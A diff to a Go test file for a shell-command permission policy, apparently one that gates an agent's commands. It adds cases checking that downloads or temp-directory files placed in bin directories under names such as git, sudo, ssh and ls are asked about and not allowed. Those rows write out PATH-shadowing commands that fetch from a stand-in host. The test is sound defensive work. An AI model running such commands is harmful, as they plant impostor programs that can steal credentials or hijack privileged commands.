@@ -116,3 +116,28 @@ func TestInPlaceCompressors(t *testing.T) {
 		{"gzip < dump.sql > dump.sql.gz", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestShadowingDownloads: a file downloaded under another name, or taken
+// from a temporary or shared directory, put in a bin directory early on
+// PATH under the name of a known program runs in its place; a tool's own
+// download and package managers' installs stay allowed (unknown47,
+// 2026-12-05: the rows marked were allowed before).
+func TestShadowingDownloads(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"curl -o ~/.local/bin/git https://x.example/x", dsl.Ask, dsl.Ask},   // was allowed
+		{"wget -O ~/bin/sudo https://x.example/x", dsl.Ask, dsl.Ask},         // was allowed
+		{"cp /tmp/x ~/.local/bin/ls", dsl.Ask, dsl.Ask},                      // was allowed
+		{"curl -L https://x.example/x > ~/.local/bin/ssh", dsl.Ask, dsl.Ask}, // was allowed
+		{"mv /dev/shm/x ~/bin/git", dsl.Ask, dsl.Ask},                        // was allowed
+		{"install -m755 /tmp/x /usr/local/bin/sudo", dsl.Ask, dsl.Ask},
+		// an agent's write there is asked whatever it is (shadow-program-agent)
+		{"curl -o ~/.local/bin/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl", dsl.Allow, dsl.Ask},
+		{"curl -Lo ~/.local/bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64", dsl.Allow, dsl.Ask},
+		{"curl -o ~/.local/bin/mytool https://x.example/x", dsl.Allow, dsl.Allow},
+		{"cp build/app ~/.local/bin/app", dsl.Allow, dsl.Allow},
+		{"pip install --user x", dsl.Allow, dsl.Allow},
+		{"cargo install ripgrep", dsl.Allow, dsl.Allow},
+		{"go install golang.org/x/tools/gopls@latest", dsl.Allow, dsl.Allow},
+		{"ln -s ~/proj/bin/tool ~/.local/bin/tool", dsl.Allow, dsl.Allow},
+	})
+}
